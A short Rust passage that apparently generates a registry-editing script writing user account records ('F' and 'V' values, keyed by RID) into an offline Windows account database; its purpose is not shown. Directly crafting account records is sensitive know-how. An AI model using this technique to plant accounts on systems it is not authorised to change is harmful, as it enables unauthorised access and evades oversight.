        let mut v = vec![0u8; 0xCC];
        v[0x0C..0x10].copy_from_slice(&0u32.to_le_bytes());
        v[0x10..0x14].copy_from_slice(&(utf16.len() as u32).to_le_bytes());
        v[0x18..0x1C].copy_from_slice(&(utf16.len() as u32).to_le_bytes());
        v.extend(&utf16);
        script.push_str(&format!(
            "add {rid:08X}\ncd {rid:08X}\nsetval 2\nF\nhex:3:{}\nV\nhex:3:{}\ncd ..\n",
            hex(&f),
            hex(&v)
        ));
    }
    script
}
